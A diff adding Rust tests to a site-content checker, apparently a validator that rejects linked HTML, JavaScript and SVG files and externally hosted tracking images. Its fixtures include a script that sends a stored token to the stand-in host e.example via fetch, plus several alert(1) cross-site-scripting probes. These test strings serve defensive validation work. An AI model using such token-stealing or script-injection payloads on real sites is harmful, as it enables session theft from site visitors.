@@ -1,6 +1,8 @@
 //! One test per rule code of the contract: a fixture edited to break exactly that rule, and the code,
 //! file, line (and column) that `check` must report. Plus the accepting cases.
 
+#[path = "support/documents.rs"]
+mod documents;
 mod fixture_site;
 #[path = "support/photo.rs"]
 mod photo;
@@ -402,6 +404,114 @@ fn rejects_images_outside_the_content_folder() {
         "../assets/parc.png",
         "../../../../data/programme.yaml",
     );
+    expect_only(&s.check(), "asset.missing", PROJECT, 23, 1);
+}
+
+#[test]
+fn rejects_a_linked_html_file_at_the_link() {
+    let s = Site::base();
+    s.write(
+        "content/districts/wiels/assets/e.html",
+        "<html><script>fetch('//e.example/?'+localStorage.token)</script></html>",
+    );
+    s.edit(
+        PROJECT,
+        "Le potager occupe une ancienne friche.",
+        "Le potager occupe une ancienne friche ([voir](../assets/e.html)).",
+    );
+    expect_only(&s.check(), "asset.type", PROJECT, 21, 40);
+}
+
+#[test]
+fn rejects_linked_files_a_browser_would_run_whatever_their_name() {
+    let html = "<!DOCTYPE html><script>alert(1)</script>";
+    for (name, bytes) in [
+        ("e.htm", html.as_bytes().to_vec()),
+        ("e.xhtml", html.as_bytes().to_vec()),
+        ("e.js", b"alert(localStorage.token)".to_vec()),
+        ("e.xml", b"<?xml version=\"1.0\"?><x/>".to_vec()),
+        (
+            "e.svg",
+            b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>".to_vec(),
+        ),
+        ("e.svgz", vec![0x1f, 0x8b, 8, 0]),
+        ("e", html.as_bytes().to_vec()),
+        ("e.pdf", html.as_bytes().to_vec()),
+        ("e.html", documents::pdf()),
+        ("e.txt", b"  <p onclick=alert(1)>".to_vec()),
+        ("e.docx", documents::pdf()),
+    ] {
+        let s = Site::base();
+        s.write(&format!("content/districts/wiels/assets/{name}"), bytes);
+        s.edit(
+            PROJECT,
+            "Le potager occupe une ancienne friche.",
+            &format!("[Le plan](../assets/{name})"),
+        );
+        let d = s.check();
+        assert_eq!(errors(&d), 1, "{name}");
+        expect(&d, "asset.type", PROJECT, 21, 1);
+    }
+}
+
+#[test]
+fn accepts_linked_documents_of_the_allow_list() {
+    let s = Site::base();
+    let docs: [(&str, Vec<u8>); 5] = [
+        ("plan.pdf", documents::pdf()),
+        ("plan.odt", documents::odt()),
+        ("plan.docx", documents::docx()),
+        ("budget.csv", b"poste;montant\nbacs;180,50\n".to_vec()),
+        ("horaires.txt", b"Lundi 9 h - 12 h\n".to_vec()),
+    ];
+    let mut links = String::new();
+    for (name, bytes) in &docs {
+        s.write(&format!("content/districts/wiels/assets/{name}"), bytes);
+        links.push_str(&format!(" [{name}](../assets/{name})"));
+    }
+    s.edit(
+        PROJECT,
+        "ancienne friche.",
+        &format!("ancienne friche.{links}"),
+    );
+    expect_clean(&s.check());
+}
+
+#[test]
+fn rejects_images_of_other_sites() {
+    for (image, col) in [
+        ("![Pixel](https://tracker.example/p.png)", 1),
+        ("![Pixel](//tracker.example/p.png)", 1),
+        ("![Pixel](http://tracker.example/p.png)", 1),
+        (
+            "Voir <img src=\"https://tracker.example/p.png\" alt=\"\">",
+            6,
+        ),
+        (
+            "<picture><source srcset=\"https://tracker.example/p.webp\"></picture>",
+            10,
+        ),
+    ] {
+        let s = Site::base();
+        s.edit(PROJECT, "Le potager occupe une ancienne friche.", image);
+        let d = s.check();
+        assert_eq!(errors(&d), 1, "{image}");
+        expect(&d, "asset.external", PROJECT, 21, col);
+    }
+    // A link to another site stays allowed.
+    let s = Site::base();
+    s.edit(
+        PROJECT,
+        "ancienne friche.",
+        "ancienne [friche](https://example.org/a.png).",
+    );
+    expect_clean(&s.check());
+}
+
+#[test]
+fn rejects_images_at_a_path_from_the_root() {
+    let s = Site::base();
+    s.edit(PROJECT, "../assets/parc.png", "/tmp/parc.png");
     expect_only(&s.check(), "asset.missing", PROJECT, 23, 1);
 }
 
